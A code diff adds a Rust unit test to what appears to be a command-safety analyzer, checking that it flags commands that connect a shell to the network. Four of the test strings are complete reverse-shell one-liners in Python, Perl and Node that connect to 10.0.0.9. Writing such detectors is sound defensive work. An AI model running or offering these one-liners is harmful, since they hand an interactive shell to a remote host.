@@ -580,3 +580,27 @@ fn perl_opens_a_written_tilde_as_a_folder_and_an_expanded_one_as_home() {
             || commands("pwsh -c 'Remove-Item -Recurse ~/x'").iter().any(|c| c.ends_with(" ~/x"))
     );
 }
+
+#[test]
+fn code_that_connects_a_shell_to_the_network_runs_what_arrives() {
+    let connects = |hint: &str| {
+        analyze(hint).unwrap().facts.iter().any(|(fact, detail)| {
+            *fact == Fact::EvalOfUnknownText && detail.contains("connects a shell")
+        })
+    };
+    for hint in [
+        "python3 -c 'import socket,subprocess;s=socket.socket();s.connect((\"10.0.0.9\",4444));subprocess.call([\"/bin/sh\",\"-i\"],stdin=s.fileno(),stdout=s.fileno())'",
+        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.9\",9));os.dup2(s.fileno(),0);pty.spawn(\"/bin/bash\")'",
+        "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(9,inet_aton(\"10.0.0.9\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\")'",
+        "node -e 'const net=require(\"net\"),sh=require(\"child_process\").spawn(\"/bin/sh\",[]);const c=new net.Socket();c.connect(9,\"10.0.0.9\",()=>{c.pipe(sh.stdin);sh.stdout.pipe(c)})'",
+    ] {
+        assert!(connects(hint), "{hint}");
+    }
+    for hint in [
+        "python3 -c 'import socket; print(socket.gethostname())'",
+        "python3 -c 'import subprocess; subprocess.run([\"bash\", \"build.sh\"])'",
+        "node -e 'require(\"fs\").createReadStream(\"a\").pipe(process.stdout)'",
+    ] {
+        assert!(!connects(hint), "{hint}");
+    }
+}
